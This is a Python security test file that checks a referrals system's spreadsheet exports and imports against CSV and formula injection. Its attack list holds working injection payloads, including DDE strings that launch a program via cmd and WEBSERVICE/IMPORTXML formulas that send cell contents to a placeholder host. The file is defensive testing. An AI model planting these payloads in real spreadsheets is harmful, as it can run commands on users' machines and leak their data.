"""No cell of any workbook of ours is executed: not as it is, and not after somebody saves it as CSV and opens that."""

import csv
import io
import re
import unicodedata
import zipfile
from types import SimpleNamespace

import pytest
from django.conf import settings as project
from hypothesis import example, given, settings
from hypothesis import strategies as st

from interface.cells import guarded, unguarded
from referrals.exchange.exporting import _written
from referrals.exchange.fields import FIELDS
from referrals.exchange.findings import Category, Message, Outcome
from referrals.exchange.report import report_workbook
from tests.referrals.exchange_stories import NAMES, exported, imported, sheet_of
from tests.referrals.workbooks import cells_of, records_of

pytestmark = pytest.mark.security
ROOT = project.BASE_DIR
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x","y")',
    '=WEBSERVICE("http://x/"&A1)',
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "+51987654321",
    "-",
    "- Se coordinó con ella.",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@x",
    "\x00=1+1",
    " =1+1",
    "   \t =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹦1",
    "'=1+1",
    "''=1+1",
    "'",
    "'-1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    "a\n=1+1",
    "_x003D_1+1",
    "%0A=1+1",
    "{=1+1}",
]
blank = st.text(
    st.sampled_from(" \t\r\n\x00\x0b\x0c\x1f\u00a0\u1680\u2003\u2028\u200b\u200f\u202e\u2060\u3000\ufeff'"), max_size=4
)
attack = st.builds(lambda a, sign, rest: a + sign + rest, blank, st.sampled_from(SIGNS), st.text(max_size=12))
text = st.one_of(st.sampled_from(ATTACKS), attack, st.text(st.characters(exclude_categories=["Cs"]), max_size=20))


def is_executed(cell: str) -> bool:
    """Whether a spreadsheet might take the cell of a CSV file for more than text; told by other means than ours."""
    if cell[:1] in {"\t", "\r", "\n", "\x00"}:
        return True
    bare = cell.lstrip("".join(each for each in cell if _is_invisible(each)))
    if not bare or unicodedata.normalize("NFKC", bare[0]) not in {"=", "+", "-", "@"}:
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return not set(cell) <= set("+-.0123456789")


def _is_invisible(letter: str) -> bool:
    return unicodedata.category(letter) in {"Cc", "Cf", "Zs", "Zl", "Zp"}


def problems_of(content: bytes) -> tuple[int, list]:
    """How many cells a workbook of ours has, and which of them are executed, here or from its CSV."""
    found, count = [], 0
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        xml = b"".join(book.read(name) for name in sheets)
        found += re.findall(rb"<f[ >/]|<hyperlink|<dde|<oleLink", xml)
        found += [name for name in book.namelist() if "externalLink" in name or "vba" in name.lower()]
    for number in range(len(sheets)):
        plain = io.StringIO(newline="")
        csv.writer(plain).writerows(cells_of(content, number))
        for row in csv.reader(io.StringIO(plain.getvalue(), newline="")):
            count += len(row)
            found += [cell for cell in row if is_executed(cell)]
    return count, found


@pytest.mark.slow
@given(text=text)
@example(text="")
@settings(max_examples=2000, deadline=None)
def test_what_is_guarded_is_harmless_and_comes_back(text):
    assert not is_executed(guarded(text))
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["Kori", "-71.5372", "+12", "12", "a=b", "Ana - Rosa", "", "51 987 654 321"])
def test_what_is_harmless_stays_as_it_is(text):
    assert guarded(text) == unguarded(text) == text


def test_the_attacks_are_attacks():
    harmless = {"-1", "+51987654321", "'=1+1", "''=1+1", "'", "'-1", *ATTACKS[-8:]}
    assert [each for each in ATTACKS if not is_executed(each)] == [each for each in ATTACKS if each in harmless]


@pytest.mark.slow
@given(
    titles=st.lists(text.filter(bool), min_size=1, max_size=4, unique=True),
    cells=st.lists(text, min_size=20, max_size=60),
)
@settings(max_examples=40, deadline=None)
def test_no_cell_of_an_export_is_executed(titles, cells):
    names = [*NAMES, *titles]
    rows = [dict(zip(names, cells[turn:] + cells[:turn], strict=False)) for turn in range(3)]
    count, found = problems_of(_written(names, [row | dict.fromkeys(titles, cells[0]) for row in rows]))
    assert found == []
    assert count > 5 * len(names)


@pytest.mark.slow
@given(titles=st.lists(text, min_size=1, max_size=30))
@settings(max_examples=40, deadline=None)
def test_no_cell_of_a_report_of_findings_is_executed(titles):
    counts, messages = dict.fromkeys(Category, 1), dict.fromkeys(list(Message)[:3], 1)
    column = {"letter": "A", "field": "", "note": "NOT_IN_STANDARD", "counts": counts, "messages": messages}
    summary = [column | {"title": title} for title in titles]
    cells = [[title, list(Category)[0], list(Message)[0]] for title in titles]
    findings = [SimpleNamespace(number=3, outcome=list(Outcome)[0], cells=cells)]
    count, found = problems_of(report_workbook(summary, findings))
    assert found == []
    assert count > 10 * len(titles)


@pytest.mark.django_db
def test_hostile_rows_come_in_and_go_out_harmless_and_whole(lima, ulises, iquitos, celia):
    texts = [field.name for field in FIELDS.values() if field.kind == "TEXT" and field.name in NAMES]
    hostile = [each for each in ATTACKS if each.strip() and "\x00" not in each]
    rows = [
        {
            **{name: hostile[(turn + at) % len(hostile)] for at, name in enumerate(texts)},
            "=cmd|' /C calc'!A0": hostile[turn],
        }
        for turn in range(len(hostile))
    ]
    imported(sheet_of(rows), lima, ulises)
    first = exported(lima, ulises)
    count, found = problems_of(first)
    print(f"{count:,} cells of a hostile export, {len(found)} executed")
    assert found == []
    imported(first, iquitos, celia)
    told = [
        sorted((row["=cmd|' /C calc'!A0"], *(row.get(name, "") for name in texts)) for row in records_of(content))
        for content in (first, exported(iquitos, celia))
    ]
    assert told[0] == told[1]
    assert sorted(row[0] for row in told[0]) == sorted(map(unguarded, hostile))
